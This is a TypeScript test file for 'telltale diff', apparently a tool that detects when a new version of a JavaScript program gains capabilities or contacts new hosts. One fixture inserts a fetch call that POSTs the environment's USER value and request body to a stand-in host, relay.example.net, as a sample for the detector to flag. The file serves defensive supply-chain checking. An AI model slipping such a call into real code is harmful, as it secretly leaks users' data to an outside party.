import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { versionDiffSchema } from "../../src/static/versions/version-diff.ts";
import { temporaryFolder } from "../trial/subject/temporary-folder.ts";
import { telltale } from "./run-telltale.ts";

const program = (send: string): string =>
  `export function start(options){const body=JSON.stringify({text:options.text});${send}return body.length}
   export function stop(list){for(const each of list)each.end();return list.length}`;

describe("telltale diff", { concurrency: 2 }, () => {
  test("of the same program in other words: nothing, exit 0", async () => {
    using own = temporaryFolder();
    own.write("a/index.js", program(""));
    own.write("b/main.js", program("").replaceAll("options", "o").replaceAll("body", "b"));
    const { code, stdout, stderr } = await telltale([
      "diff",
      "--quiet",
      `${own.path}/a`,
      `${own.path}/b`,
    ]);
    assert.match(stdout, /0 changed, 0 new, 0 gone of 2 functions/);
    assert.equal(stderr, "");
    assert.equal(code, 0);
  });

  test("of one that sends more: said, exit 1, also as JSON", async () => {
    using own = temporaryFolder();
    own.write("a.js", program(""));
    own.write(
      "b.js",
      program('fetch("https://relay.example.net/"+process.env.USER,{method:"POST",body});'),
    );
    const { code, stdout } = await telltale([
      "diff",
      "--json",
      "--quiet",
      `${own.path}/a.js`,
      `${own.path}/b.js`,
    ]);
    const diff = versionDiffSchema.parse(JSON.parse(stdout));
    assert.deepEqual(diff.hosts.new, ["relay.example.net"]);
    assert.deepEqual(diff.changes[0]?.gained, ["username", "env", "request", "host"]);
    assert.equal(code, 1);
  });

  test("of what holds no program: one line, exit 2", async () => {
    const { code, stdout, stderr } = await telltale(["diff", "--quiet", "/none/a", "/none/b"]);
    assert.equal(stdout, "");
    assert.match(stderr, /^telltale: [^\n]*\/none\/a[^\n]*\n$/);
    assert.equal(code, 2);
  });
});
